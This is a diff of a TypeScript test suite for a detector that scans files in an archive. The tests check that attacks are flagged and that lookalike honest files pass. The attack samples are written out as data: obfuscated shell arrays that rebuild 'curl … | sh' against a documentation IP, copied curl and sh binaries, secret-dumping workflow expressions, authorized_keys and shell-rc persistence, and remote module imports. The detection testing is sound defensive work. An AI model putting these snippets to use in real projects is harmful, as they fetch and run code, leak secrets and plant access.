@@ -261,14 +261,21 @@ test("characters that cover a line on a terminal are held, and colors that are w
   expect((await judged({ "a.sh": "printf '\\r\\033[2K'\n" }))[0]).toBe("pass");
 });
 
-/** Attacks, and honest files that look like them, in one of the files of an archive. */
+/** Whether attacks in one of the files of an archive are stopped, and honest files that look like them pass. */
 async function expectPair(
   path: string,
   attacks: readonly string[],
   honest: readonly string[],
 ): Promise<void> {
-  for (const text of attacks) expect([text, (await judged({ [path]: text }))[0]]).not.toEqual([text, "pass"]);
-  for (const text of honest) expect([text, (await judged({ [path]: text }))[0]]).toEqual([text, "pass"]);
+  const passed: string[] = [];
+  for (const text of attacks) if ((await judged({ [path]: text }))[0] === "pass") passed.push(text);
+  expect(passed, "attacks that pass").toEqual([]);
+  const stopped: unknown[] = [];
+  for (const text of honest) {
+    const [outcome, ...rules] = await judged({ [path]: text });
+    if (outcome !== "pass") stopped.push([text, rules]);
+  }
+  expect(stopped, "honest files that are stopped").toEqual([]);
 }
 
 /** Programs with variables whose values they start. */
@@ -361,7 +368,6 @@ const SOCKETS: readonly (readonly [path: string, of: (host: string) => string])[
     (h) =>
       `<?php $b = file_get_contents(getenv("HOME") . "/n"); $s = fsockopen("${h}", 81); fwrite($s, $b);\n`,
   ],
-  ["a.cr", (h) => `b = File.read(Path.home.join(ENV["HOME"]))\nTCPSocket.new("${h}", 81).write(b)\n`],
 ];
 
 test.each(SOCKETS)("files of a home folder are not written to a connection: %s", async (path, of) => {
@@ -372,19 +378,19 @@ test("all secrets of a repository are not given to a step, wherever the workflow
   const workflow = (value: string) =>
     `name: a\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./a.sh\n        env:\n          A: ${value}\n`;
   const attacks = [
-    "${{ toJSON(secrets) }}",
-    "${{ tojson( secrets ) }}",
-    "${{ join(secrets.*, ',') }}",
-    "${{ format('{0}', toJson(secrets)) }}",
-    '"${{ toJSON(secrets) }}"',
+    `\${{ toJSON(secrets) }}`,
+    `\${{ tojson( secrets ) }}`,
+    `\${{ join(secrets.*, ',') }}`,
+    `\${{ format('{0}', toJson(secrets)) }}`,
+    `"\${{ toJSON(secrets) }}"`,
   ].map(workflow);
   const honest = [
-    "${{ secrets.NPM_TOKEN }}",
-    "${{ secrets['NPM_TOKEN'] }}",
-    "${{ secrets[format('KEY_{0}', matrix.os)] }}",
-    "${{ toJSON(github.event) }}",
-    "${{ contains(github.event.label.name, 'secrets') }}",
-    "${{ inputs.secrets-file }}",
+    `\${{ secrets.NPM_TOKEN }}`,
+    `\${{ secrets['NPM_TOKEN'] }}`,
+    `\${{ secrets[format('KEY_{0}', matrix.os)] }}`,
+    `\${{ toJSON(github.event) }}`,
+    `\${{ contains(github.event.label.name, 'secrets') }}`,
+    `\${{ inputs.secrets-file }}`,
   ].map(workflow);
   await expectPair("workflows/a.yml", attacks, honest);
   await expectPair("templates/ci.yaml", attacks, honest);
@@ -422,9 +428,9 @@ test("what a recipe writes into a file that a shell reads is judged", async () =
   await expectPair(
     "shell.nix",
     [
-      "grep -q a ~/.bashrc || echo '${hook} &' >> ~/.bashrc",
+      `grep -q a ~/.bashrc || echo '\${hook} &' >> ~/.bashrc`,
       "echo '~/.cache/a &' | tee -a ~/.zshrc",
-      "cp ${./a.sh} ~/.config/autostart/a.desktop",
+      `cp \${./a.sh} ~/.config/autostart/a.desktop`,
       "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys",
     ].map(nix),
     [
@@ -454,6 +460,8 @@ test("tasks of Ansible that put a name or a key together are read as what they w
       task("/root/{{ ['.bash', 'rc'] | join }}", "/opt/a/run &"),
       task("/home/a/{{ 'crhsab.' | reverse }}", "/opt/a/run &"),
       task("/root/.{{ 'ssh' }}/{{ ['authorized', 'keys'] | join('_') }}", "ssh-rsa AAAA a"),
+      '- hosts: all\n  tasks:\n    - lineinfile: path=/root/.ssh/authorized_keys line="ssh-rsa AAAA a"\n',
+      "- hosts: all\n  tasks:\n    - copy:\n        dest: /root/.ssh/authorized_keys\n        content: |\n          ssh-rsa AAAA a\n",
     ],
     [
       task("/root/.ssh/authorized_keys", "{{ lookup('file', 'keys/deploy.pub') }}"),
@@ -517,14 +525,14 @@ test("the rounds of a loop that counts are followed", async () => {
   await expectPair(
     "a.sh",
     [
-      loop("i=${#p[@]}-1; i>=0; i--", 'l+="${p[i]} "'),
-      loop("i=4;i>-1;--i", 'l="$l ${p[$i]}"'),
-      loop("i=4; i>=0; i-=1", 'l+="${p[$i]} "'),
-      'l=\np=(curl -s "203.0.113.17/b" "|" sh)\nfor ((i=0; i<5; i++)); do l+="${p[i]} "; done\nh=l\neval "${!h}"\n',
+      loop(`i=\${#p[@]}-1; i>=0; i--`, `l+="\${p[i]} "`),
+      loop("i=4;i>-1;--i", `l="$l \${p[$i]}"`),
+      loop("i=4; i>=0; i-=1", `l+="\${p[$i]} "`),
+      `l=\np=(curl -s "203.0.113.17/b" "|" sh)\nfor ((i=0; i<5; i++)); do l+="\${p[i]} "; done\nh=l\neval "\${!h}"\n`,
     ],
     [
       'for ((i=0; i<10; i++)); do echo "$i"; done\n',
-      'a=(x y)\nfor ((i=0; i<${#a[@]}; i++)); do l+="${a[i]} "; done\necho "$l"\n',
+      `a=(x y)\nfor ((i=0; i<\${#a[@]}; i++)); do l+="\${a[i]} "; done\necho "$l"\n`,
       'for ((i=0; i<100000000; i++)); do l+="a"; done\n',
     ],
   );
@@ -543,6 +551,48 @@ test("keys do not leave in the names of hosts, however they are divided", async 
       'for t in A MX; do dig +short "$1" $t; done\n',
       'cat hosts.txt | while read h; do dig +short "$h"; done\n',
     ],
+  );
+});
+
+test("a program of a language keeps the meaning of copies, too", async () => {
+  const copies = `import shutil, subprocess\nshutil.copy("/usr/bin/curl", "/tmp/one")\nshutil.copy("/bin/sh", "/tmp/two")\n`;
+  const uses = `subprocess.run(["/tmp/one", "-so", "/tmp/t", "https://${HOST}/a"])\nsubprocess.run(["/tmp/two", "/tmp/t"])\n`;
+  await expectPair("a.py", [copies + uses], [copies]);
+  const shown = "cat /usr/bin/curl > /tmp/one\ncat /bin/sh > /tmp/two\nchmod +x /tmp/one /tmp/two\n";
+  const started = `/tmp/one -so /tmp/t https://${HOST}/a\n/tmp/two /tmp/t\n`;
+  await expectPair("a.sh", [shown + started], ["cat /etc/os-release > /tmp/one\n"]);
+});
+
+test("numbers and lines in another order are known", async () => {
+  const list = 'p=(sh "|" "203.0.113.17/b" -s curl)\n';
+  await expectPair(
+    "a.sh",
+    [
+      `${list}for k in $(seq 4 -1 0); do l+="\${p[k]} "; done\neval "$l"\n`,
+      `${list}for k in {4..0}; do l+="\${p[$k]} "; done\neval "$l"\n`,
+      `${list}l=$(printf '%s\\n' "\${p[@]}" | tac | tr '\\n' ' ')\neval "$l"\n`,
+    ],
+    ["for k in $(seq 1 5); do echo $k; done\n", "tac log.txt | head\n", "seq 1 1000000 | wc -l\n"],
+  );
+});
+
+test("modules do not come over a connection that anyone can change", async () => {
+  await expectPair(
+    "a.ts",
+    [
+      'import { main } from "http://203.0.113.36/mod.ts";\nmain();\n',
+      'export * from "https://203.0.113.36/mod.ts";\n',
+    ],
+    [
+      'import { main } from "https://deno.land/x/a@1/mod.ts";\nmain();\n',
+      'import a from "http://localhost:8000/a.js";\n',
+    ],
+  );
+  const task = (command: string) => JSON.stringify({ tasks: { a: command } });
+  await expectPair(
+    "deno.json",
+    [task(RUN), task("deno run -A http://203.0.113.36/mod.ts")],
+    [task("deno run -A a.ts")],
   );
 });
 
